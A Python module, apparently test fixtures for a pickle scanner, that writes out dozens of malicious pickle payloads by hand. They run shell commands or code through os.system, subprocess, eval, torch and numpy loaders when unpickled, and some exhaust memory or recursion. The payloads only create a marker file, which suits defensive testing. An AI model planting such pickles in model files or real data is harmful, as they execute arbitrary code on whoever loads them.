"""Gadgets: pieces of pickles that run code when they are unpickled, written opcode by opcode."""

import io
import os
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch


@dataclass(frozen=True)
class Marker:
    """The file that a payload tries to create.

    Attributes:
        path: The file.
        module: The name of a module that creates it when it is imported.
    """

    path: Path
    module: str

    @property
    def shell(self) -> str:
        """A shell command that creates it."""
        return f"touch '{self.path}'"

    @property
    def python(self) -> str:
        """An expression that creates it."""
        return f"open({str(self.path)!r}, 'w')"


Gadget = Callable[[Marker], bytes]


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, function: str) -> bytes:
    return f"c{module}\n{function}\n".encode()


def tuple_of(*parts: bytes) -> bytes:
    return b"(" + b"".join(parts) + b"t"


def call(module: str, function: str, *arguments: bytes) -> bytes:
    return name(module, function) + tuple_of(*arguments) + b"R"


def raw_bytes(value: bytes) -> bytes:
    return call("_codecs", "encode", text(value.decode("latin1")), text("latin1"))


def list_of(*parts: bytes) -> bytes:
    return b"](" + b"".join(parts) + b"e"


class Reduced:
    """Runs a shell command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def nested(marker: Marker) -> bytes:
    """A pickle in a pickle: torch would unpickle it without a check."""
    legacy = io.BytesIO()
    torch.save(Reduced(marker.shell), legacy, _use_new_zipfile_serialization=False)
    return call("torch.storage", "_load_from_bytes", raw_bytes(legacy.getvalue()))


def object_array(marker: Marker) -> bytes:
    file = marker.path.with_suffix(".npy")
    np.save(file, np.array([Reduced(marker.shell)], dtype=object), allow_pickle=True)
    return call("numpy", "load", text(str(file)), b"N", b"\x88")


def partial(marker: Marker) -> bytes:
    """An object that calls its state."""
    made = name("functools", "partial") + tuple_of(name("builtins", "print")) + b"\x81"
    state = tuple_of(name("os", "system"), tuple_of(text(marker.shell)), b"}", b"}")
    return made + state + b"b" + b")R"


GADGETS: dict[str, Gadget] = {
    "os.system": lambda m: call("os", "system", text(m.shell)),
    "posix.system": lambda m: call("posix", "system", text(m.shell)),
    "os.mkdir": lambda m: call("os", "mkdir", text(str(m.path))),
    "os.popen": lambda m: call("os", "popen", text(m.shell)),
    "subprocess.call": lambda m: call("subprocess", "call", list_of(text("touch"), text(str(m.path)))),
    "subprocess.Popen": lambda m: call("subprocess", "Popen", list_of(text("touch"), text(str(m.path)))),
    "builtins.eval": lambda m: call("builtins", "eval", text(m.python)),
    "builtins.exec": lambda m: call("builtins", "exec", text(m.python)),
    "__builtin__.eval of Python 2": lambda m: call("__builtin__", "eval", text(m.python)),
    "builtins.open": lambda m: call("builtins", "open", text(str(m.path)), text("w")),
    "builtins.__import__": lambda m: call("builtins", "__import__", text(m.module)),
    "importlib.import_module": lambda m: call("importlib", "import_module", text(m.module)),
    "a module that is only named": lambda m: name(m.module, "anything"),
    "runpy.run_path": lambda m: call("runpy", "run_path", text(f"{m.module}.py")),
    "pty.spawn": lambda m: call("pty", "spawn", list_of(text("touch"), text(str(m.path)))),
    "timeit.timeit": lambda m: call("timeit", "timeit", text("pass"), text(m.python)),
    "getattr of a module": lambda m: (
        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
        + tuple_of(text(m.shell))
        + b"R"
    ),
    "operator.methodcaller": lambda m: (
        call("operator", "methodcaller", text("touch"))
        + tuple_of(call("pathlib", "PosixPath", text(str(m.path))))
        + b"R"
    ),
    "functools.partial, by BUILD": partial,
    "BUILD on a class": lambda m: (
        name("collections", "OrderedDict") + b"}" + text("x") + GADGETS["os.system"](m) + b"sb"
    ),
    "BUILD of methods": lambda m: (
        name("collections", "OrderedDict") + b")R}" + text("items") + GADGETS["os.system"](m) + b"sb"
    ),
    "NEWOBJ": lambda m: name("subprocess", "Popen") + tuple_of(list_of(text("touch"), text(str(m.path)))) + b"\x81",
    "NEWOBJ_EX": lambda m: name("subprocess", "Popen") + tuple_of(text(m.shell)) + b"}" + text("shell") + b"\x88s\x92",
    "INST": lambda m: b"(" + text(m.shell) + b"ios\nsystem\n",
    "OBJ": lambda m: b"(" + name("os", "system") + text(m.shell) + b"o",
    "STACK_GLOBAL": lambda m: text("os") + text("system") + b"\x93" + tuple_of(text(m.shell)) + b"R",
    "EXT1": lambda m: (
        tuple_of(call("copyreg", "add_extension", text("os"), text("system"), b"K\xf0"))
        + b"0\x82\xf0"
        + tuple_of(text(m.shell))
        + b"R"
    ),
    "a persistent id that is a module": lambda m: (
        tuple_of(text("module"), name("os", "system"), text(m.shell), b"N") + b"Q"
    ),
    "a persistent id that is a call": lambda m: (
        tuple_of(text("storage"), call("os", "system", text(m.shell)), text("0"), text("cpu"), b"K\x01") + b"Q"
    ),
    "PERSID": lambda m: b"P" + m.shell.encode() + b"\n",
    "a pickle in bytes": nested,
    "a pickle in an array": object_array,
    "numpy's _reconstruct": lambda m: call(
        "numpy.core.multiarray", "_reconstruct", name("subprocess", "Popen"), tuple_of(text("touch")), b"N"
    ),
    "torch.save": lambda m: call("torch", "save", b"]", text(str(m.path))),
    "torch.hub": lambda m: call("torch.hub", "_load_local", text("."), text("evil")),
    "torch.load": lambda m: call("torch", "load", text("legacy.pth")),
    "torch.jit.load": lambda m: call("torch.jit", "load", text("script.pt")),
    "torch's shell": lambda m: call("torch.utils.collect_env", "run", text(m.shell)),
    "_rebuild_from_type_v2": lambda m: call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        name("os", "system"),
        name("os", "system"),
        tuple_of(text(m.shell)),
        b"}",
    ),
    "_rebuild_wrapper_subclass": lambda m: call(
        "torch._utils", "_rebuild_wrapper_subclass", name("os", "system"), text(m.shell)
    ),
    "hooks of a tensor": lambda m: call(
        "torch._utils", "_rebuild_parameter", GADGETS["os.system"](m), b"\x88", name("os", "system")
    ),
    # These run nothing: they would fill the memory, take forever, or crash.
    "a tensor of terabytes": lambda m: call("torch", "FloatTensor", b"\x8a\x06\x00\x00\x00\x00\x00\x10"),
    "bytes of terabytes": lambda m: call("__builtin__", "bytearray", b"\x8a\x06\x00\x00\x00\x00\x00\x10"),
    "bytes that double": lambda m: doubled(),
    "a key that unfolds": lambda m: b"}(" + b")" + b"".join(b"q%c" % 200 + b"h%c\x86" % 200 for _ in range(80)) + b"Nu",
    "a key that is deep": lambda m: b"}(" + b")" + b"\x85" * 1_000_000 + b"Nu",
    "the elements of an enormous tensor": lambda m: name("collections", "Counter") + tuple_of(enormous_tensor()) + b"R",
    "a list in itself": lambda m: b"]q\xc8" + b"h\xc8a",
    "a list that unfolds": lambda m: b"]q\xc8" + b"".join(b"](h\xc8h\xc8eq\xc8" for _ in range(60)),
}


def doubled() -> bytes:
    """Hexadecimal of hexadecimal of hexadecimal."""
    grown = raw_bytes(b"a")
    for _ in range(60):
        grown = name("_codecs", "encode") + b"(" + grown + text("hex") + b"tR"
    return grown


def enormous_tensor() -> bytes:
    """The first storage of the checkpoint, with one element expanded to 2**40."""
    storage = tuple_of(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x04") + b"Q"
    size = tuple_of(b"\x8a\x06\x00\x00\x00\x00\x00\x01")
    hooks = name("collections", "OrderedDict") + b")R"
    return call("torch._utils", "_rebuild_tensor_v2", storage, b"K\x00", size, tuple_of(b"K\x00"), b"\x89", hooks)
